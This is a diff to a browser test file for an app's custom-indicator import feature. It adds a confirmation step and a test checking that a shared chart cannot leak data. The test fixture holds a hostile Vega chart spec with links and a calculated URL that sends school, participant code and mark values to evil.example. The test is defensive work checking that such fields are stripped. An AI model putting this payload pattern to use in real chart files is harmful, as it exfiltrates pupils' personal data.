@@ -228,6 +228,12 @@ describe('custom indicators: saved from the console, kept, exported, imported, s
     await waitSaved(page);
     expect(await page.$('[data-testid="indicator-U1"]')).toBeNull();
     await page.setInputFiles('[data-testid="import-input"]', { name: 'показатель.json', mimeType: 'application/json', buffer: file });
+    // a file, like a link, asks first: nothing is added before the user has seen it
+    await page.locator('[data-testid="indicator-confirm"]').waitFor();
+    expect(await page.textContent('[data-testid="indicator-confirm-title"]')).toBe('Участники и «2» по классам и предметам');
+    await expect.poll(() => page.textContent('[data-testid="indicator-confirm-reads"]')).toMatch(/Результаты участников.*\(result\).*mark/s);
+    expect(await page.$('[data-testid="indicator-U1"]')).toBeNull();
+    await page.click('[data-testid="indicator-confirm-add"]');
     await expect.poll(() => page.textContent('[data-testid="import-status"]')).toContain('U1');
     await page.waitForSelector('[data-testid="indicator-U1"]');
     await expect.poll(() => gridRows(page)).toEqual(expected2025);
@@ -275,6 +281,45 @@ describe('custom indicators: saved from the console, kept, exported, imported, s
     await page.locator('[data-testid="indicator-confirm"]').waitFor();
     await page.click('[data-testid="indicator-confirm-cancel"]');
     expect(await page.locator('[data-testid^="indicator-U"]').count()).toBe(1);
+    expect(foreignRequests(fresh.requests, baseUrl)).toEqual([]);
+    expect(fresh.errors).toEqual([]);
+  });
+
+  it('a shared chart cannot send data anywhere: no menu, no links, nothing loaded, shown before adding', async () => {
+    const fresh = await openApp(baseUrl);
+    sessions.push(fresh);
+    const { page } = fresh;
+    await waitSaved(page);
+    const leaking = {
+      oko: 'indicator',
+      version: 1,
+      indicator: {
+        id: 'U1', title: 'Отметки участников', mechanism: 'Свои показатели', source: 'коллега', formula: 'отметки', params: [],
+        sql: 'SELECT school_id AS school, participant_code AS code, mark FROM v_vpr LIMIT 12',
+        columns: [{ name: 'school', label: 'ОО' }, { name: 'code', label: 'Код' }, { name: 'mark', label: 'Отметка' }],
+        chart: {
+          usermeta: { embedOptions: { actions: true, editorUrl: 'https://evil.example/editor', i18n: { PNG_ACTION: 'Скачать отчёт (PDF)' } } },
+          mark: { type: 'bar', href: 'https://evil.example/bar' },
+          transform: [{ calculate: "'https://evil.example/leak?school=' + datum.school + '&code=' + datum.code + '&mark=' + datum.mark", as: 'link' }],
+          encoding: { x: { field: 'mark', type: 'quantitative' }, y: { field: 'code', type: 'nominal' }, href: { field: 'link', type: 'nominal' } },
+        },
+      },
+    };
+    await page.setInputFiles('[data-testid="import-input"]', { name: 'отчёт.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(leaking)) });
+    await page.locator('[data-testid="indicator-confirm"]').waitFor();
+    expect(await page.textContent('[data-testid="indicator-confirm-chart"]')).toContain('столбцы; по горизонтали — mark; по вертикали — code');
+    expect(await page.textContent('[data-testid="indicator-confirm-removed"]')).toContain('usermeta, mark.href, encoding.href');
+    await expect.poll(() => page.textContent('[data-testid="indicator-confirm-reads"]')).toContain('participant_code');
+    await page.click('[data-testid="indicator-confirm-add"]');
+    await page.waitForSelector('[data-testid="chart"] svg .mark-rect path');
+    const url = page.url();
+    // no export menu, no link in the drawing, and a click on a bar goes nowhere
+    expect(await page.locator('[data-testid="chart"] .vega-actions, [data-testid="chart"] details').count()).toBe(0);
+    expect(await page.locator('[data-testid="chart"] svg a').count()).toBe(0);
+    await page.locator('[data-testid="chart"] svg .mark-rect path').first().click({ force: true });
+    await page.locator('[data-testid="chart"] svg .mark-rect path').first().dblclick({ force: true });
+    expect(page.url()).toBe(url);
+    expect(fresh.context.pages()).toHaveLength(1);
     expect(foreignRequests(fresh.requests, baseUrl)).toEqual([]);
     expect(fresh.errors).toEqual([]);
   });
